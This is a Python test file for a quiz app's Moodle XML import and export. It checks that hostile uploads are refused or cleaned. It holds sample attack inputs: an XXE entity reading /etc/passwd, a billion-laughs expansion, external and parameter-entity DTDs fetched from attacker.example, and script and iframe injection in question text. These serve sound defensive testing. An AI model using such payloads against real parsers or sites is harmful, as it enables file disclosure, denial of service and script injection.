"""Moodle XML import (hostile and unsupported input) and export round trips."""

from dataclasses import replace
from decimal import Decimal

import pytest

from quizzes import formats, types
from quizzes.formats import common, moodle_xml

C = types.ChoiceData


def parse(xml, **kwargs):
    data = xml.encode("utf-8") if isinstance(xml, str) else xml
    return formats.parse(data, format="moodle-xml", **kwargs)


def quiz(*questions, declaration='<?xml version="1.0" encoding="UTF-8"?>'):
    return declaration + "\n<quiz>\n" + "\n".join(questions) + "\n</quiz>\n"


def question(kind, name, body=""):
    return (f'<question type="{kind}"><name><text>{name}</text></name>'
            f'<questiontext format="html"><text>Text of {name}</text></questiontext>{body}'
            "</question>")


TF = ('<answer fraction="100"><text>true</text></answer>'
      '<answer fraction="0"><text>false</text></answer>')

XXE = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="essay"><name><text>&xxe;</text></name>
<questiontext><text>&xxe;</text></questiontext></question></quiz>"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<quiz><question type="essay"><name><text>&lol4;</text></name></question></quiz>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd">
<quiz></quiz>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<quiz></quiz>"""


@pytest.mark.parametrize("xml", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_entities_and_external_references_are_refused(xml):
    result = parse(xml)

    assert [str(e) for e in result.errors] == [str(moodle_xml.ERR_XML_FORBIDDEN)]
    assert result.questions == []


def test_a_file_over_5_mb_is_refused_unparsed(tmp_path):
    padding = "<!-- " + "x" * (6 * 1024 * 1024) + " -->"
    path = tmp_path / "big.xml"
    path.write_text(quiz(padding, question("truefalse", "q", TF)))

    result = formats.parse(path, format="moodle-xml")

    assert [str(e) for e in result.errors] == [common.too_large_message()]


# The constant's text before its detail placeholder, in the active language.
MALFORMED = str(moodle_xml.ERR_XML_MALFORMED).split("%(detail)s")[0].rstrip(" (（")


@pytest.mark.parametrize("data, start", [
    (b"", str(common.ERR_EMPTY_FILE)),
    (b"\x89PNG\r\n\x1a\n\x00\x00garbage\xff", MALFORMED),
    (b"<quiz><question type='essay'>", MALFORMED),
    (b"<html><body>hi</body></html>", str(moodle_xml.ERR_XML_NOT_MOODLE)),
    (b"<quiz></quiz>", str(common.ERR_NO_QUESTIONS)),
    ("<?xml version='1.0' encoding='UTF-8'?><quiz>\u00e9</quiz>".encode("latin-1"),
     MALFORMED),
])
def test_broken_files_give_one_clear_error(data, start):
    result = parse(data)

    assert len(result.errors) == 1 and str(result.errors[0]).startswith(start[:30])


def test_gbk_declared_file_is_read():
    xml = quiz(question("truefalse", "判断题", TF),
               declaration='<?xml version="1.0" encoding="GBK"?>')

    result = parse(xml.encode("gbk"))

    assert result.ok and result.questions[0].name == "判断题"


@pytest.mark.parametrize("kind", ["matching", "numerical", "calculated", "ddwtos", "description",
                                  "randomsamatch", "gapselect"])
def test_unsupported_types_are_named_or_skipped(kind):
    xml = quiz(question(kind, "Bad one"), question("truefalse", "Good one", TF))

    failed = parse(xml)
    skipped = parse(xml, skip_unsupported=True)

    assert [e.message for e in failed.errors] == [str(common.ERR_UNSUPPORTED % {"type": kind})]
    assert "“Bad one”" in str(failed.errors[0])
    assert skipped.ok and [(s.type, "Bad one" in s.source) for s in skipped.skipped] == [
        (kind, True)]
    assert [q.name for q in skipped.questions] == ["Good one"]


def test_cloze_with_choices_is_unsupported_naming_the_sub_question_type():
    cloze = ('<question type="cloze"><name><text>Cloze</text></name><questiontext format="html">'
             "<text>A {1:MULTICHOICE:=x~y} and {1:SA:=z}</text></questiontext></question>")

    result = parse(quiz(cloze))

    assert [e.message for e in result.errors] == [
        str(common.ERR_UNSUPPORTED % {"type": "cloze (MULTICHOICE)"})]
    assert parse(quiz(cloze), skip_unsupported=True).skipped[0].type == "cloze (MULTICHOICE)"


def test_cloze_with_short_answers_only_is_a_fill_in_question():
    cloze = ('<question type="cloze"><name><text>C</text></name><questiontext format="html">'
             r"<text><![CDATA[<p>{1:SHORTANSWER:=北京~%50%南京~=北平} 和 {2:SA:%100%a\}b#ok}</p>]]>"
             "</text></questiontext><defaultgrade>2</defaultgrade></question>")

    result = parse(quiz(cloze))

    assert result.ok
    assert result.questions[0].text == "{{1}} 和 {{2}}"
    assert result.questions[0].blanks == [["北京", "北平"], ["a}b"]]
    assert result.questions[0].points == Decimal("2")
    assert "南京" in result.warnings[0]


def test_html_and_scripts_in_question_text_become_plain_text():
    body = ('<questiontext format="html"><text><![CDATA[<p onclick="x()">预算</p>'
            "<script>document.location='http://evil'</script><iframe src=x>hidden</iframe>"
            "<b>绩效</b> &lt;script&gt;</text></questiontext>")
    xml = quiz('<question type="essay"><name><text>x</text></name>' + body.replace(
        "</text></questiontext>", "]]></text></questiontext>") + "</question>")

    result = parse(xml)

    text = result.questions[0].text
    assert text == "预算\n绩效 <script>"  # the escaped one is text; it is escaped again on output
    assert "evil" not in text and "hidden" not in text and "onclick" not in text


def test_plain_text_format_is_kept_verbatim():
    xml = quiz('<question type="essay"><name><text>x</text></name><questiontext '
               'format="plain_text"><text>a &lt;b&gt; &amp; c</text></questiontext></question>')

    assert parse(xml).questions[0].text == "a <b> & c"


@pytest.mark.parametrize("body, message", [
    ('<single>true</single><answer fraction="100"><text>a</text></answer>'
     '<answer fraction="100"><text>b</text></answer>',
     common.ERR_SINGLE_CORRECT % {"count": 2}),
    ('<single>true</single><answer fraction="50"><text>a</text></answer>'
     '<answer fraction="0"><text>b</text></answer>',
     common.ERR_SINGLE_CORRECT % {"count": 0}),
    ('<single>false</single><answer fraction="abc"><text>a</text></answer>',
     common.ERR_FRACTION % {"value": "abc"}),
    ('<single>false</single><answer fraction="100"><text>a</text></answer>',
     common.ERR_TOO_FEW_CHOICES),
    ('<single>false</single><answer fraction="100"><text>a</text></answer>'
     '<answer fraction="0"><text></text></answer>', common.ERR_EMPTY_CHOICE % {"number": 2}),
    ("<defaultgrade>-1</defaultgrade>" + TF, common.points_error("-1")),
    ("<defaultgrade>1e9</defaultgrade>" + TF, common.points_error("1e9")),
    ("<defaultgrade>0.3333333</defaultgrade>" + TF, common.points_error("0.3333333")),
    ("<defaultgrade>NaN</defaultgrade>" + TF, common.points_error("NaN")),
    ("<difficulty>extreme</difficulty>" + TF, moodle_xml.ERR_DIFFICULTY % {"value": "extreme"}),
])
def test_bad_questions_are_errors_naming_the_question(body, message):
    kind = "multichoice" if "<single>" in body else "truefalse"

    result = parse(quiz(question(kind, "Broken", body)))

    assert str(message) in [e.message for e in result.errors]
    assert all("“Broken”" in str(e) for e in result.errors)


def test_truefalse_without_a_right_answer_is_an_error():
    result = parse(quiz(question("truefalse", "TF", '<answer fraction="0"><text>true</text>'
                                                    "</answer>")))

    assert [e.message for e in result.errors] == [str(moodle_xml.ERR_TRUE_FALSE)]


def test_shortanswer_wildcard_as_accepted_answer_is_an_error():
    result = parse(quiz(question("shortanswer", "SA", '<answer fraction="100"><text>fr*g</text>'
                                                      "</answer>")))

    assert [e.message for e in result.errors] == [str(common.ERR_WILDCARD % {"value": "fr*g"})]


def test_categories_drop_context_and_top_and_keep_literal_slashes():
    xml = quiz('<question type="category"><category><text>$system$/top/预算//绩效/评价</text>'
               "</category></question>", question("truefalse", "q", TF))

    assert parse(xml).questions[0].category == "预算／绩效/评价"


# ------------------------------------------------------------------ round trip

SAMPLE = [
    types.QuestionData(kind=types.SINGLE, text="绩效目标应当（  ）。", choices=[
        C("指向明确", True, "对"), C("越多越好", False, "不对"), C("=1+1", False)],
        points=Decimal("2"), difficulty=types.EASY, explanation="解析\n第二行",
        category="目标管理/指标", tags=["绩效目标", "指标"], name="单选一"),
    types.QuestionData(kind=types.MULTIPLE, text="选出 3 个", choices=[
        C("a", True), C("b", True), C("c", True), C("d", False), C("<b>e</b> & f", False)],
        points=Decimal("1.5"), difficulty=types.HARD, category="目标管理/指标"),
    types.QuestionData(kind=types.TRUE_FALSE, text="判断 <script>alert(1)</script>",
                       answer_true=False, explanation="不对", category="运行监控"),
    types.QuestionData(kind=types.TRUE_FALSE, text="真", answer_true=True, category=""),
    types.QuestionData(kind=types.FILL, text="一个空：{{1}}。", blanks=[["北京", "北平", "a*b"]]),
    types.QuestionData(kind=types.FILL, text="没有标记的空", blanks=[["x"]]),
    types.QuestionData(kind=types.FILL, text="{{1}} 与 {{2}}，1/2 {x}",
                       blanks=[["甲", "a}b~c#d/e\"f\\g"], ["乙"]], points=Decimal("4")),
    types.QuestionData(kind=types.ESSAY, text="论述", reference_answer="要点：一、二",
                       explanation="评分说明", points=Decimal("10"), category="结果应用",
                       tags=["结果应用"], name="论述题"),
]


def comparable(questions):
    return [replace(q, source="") for q in questions]


def test_export_then_import_gives_the_same_questions():
    data = formats.export(SAMPLE, format="moodle-xml")

    result = parse(data)

    assert result.ok and not result.warnings and not result.skipped
    assert comparable(result.questions) == comparable(SAMPLE)


def test_export_is_safe_xml_moodle_can_read():
    data = formats.export(SAMPLE, format="moodle-xml").decode("utf-8")

    assert data.startswith('<?xml version="1.0" encoding="UTF-8"?>')
    assert "<script>" not in data  # text is escaped
    assert "&lt;script&gt;" in data
    assert '<question type="cloze">' in data
    assert "{1:SHORTANSWER:=甲~=a\\}b\\~c\\#d\\/e\\\"f\\\\g}" in data
    assert "$course$/top/目标管理/指标" in data
    assert 'fraction="33.33333"' in data and 'fraction="-100"' in data


def test_control_characters_are_dropped_on_export():
    question = types.QuestionData(kind=types.TRUE_FALSE, text="a\x00b\x1fc", answer_true=True)

    result = parse(formats.export([question], format="moodle-xml"))

    assert result.questions[0].text == "abc"
